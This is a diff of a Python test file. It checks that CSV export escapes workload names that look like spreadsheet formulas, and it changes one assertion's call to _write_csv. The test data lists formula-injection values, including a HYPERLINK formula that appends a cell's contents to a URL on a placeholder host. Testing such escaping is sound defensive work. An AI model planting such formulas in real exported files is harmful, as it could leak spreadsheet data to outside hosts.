@@ -17,7 +17,7 @@ FORMULAS = ('=HYPERLINK("http://a/"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", " =1
 @pytest.mark.parametrize("name", FORMULAS)
 def test_a_name_that_is_a_formula_is_a_text_in_csv(tmp_path: Path, name: str) -> None:
     row = {**dict.fromkeys(COLUMNS), "workload": name, "value": -1.5, "samples": []}
-    assert _write_csv(iter([row]), tmp_path / "all.csv") == 1
+    assert _write_csv([tuple(row.values())], tmp_path / "all.csv") == 1
     with (tmp_path / "all.csv").open(encoding="utf-8", newline="") as file:
         (read,) = csv.DictReader(file)
     assert (read["workload"], read["value"]) == (f"'{name}", "-1.5")
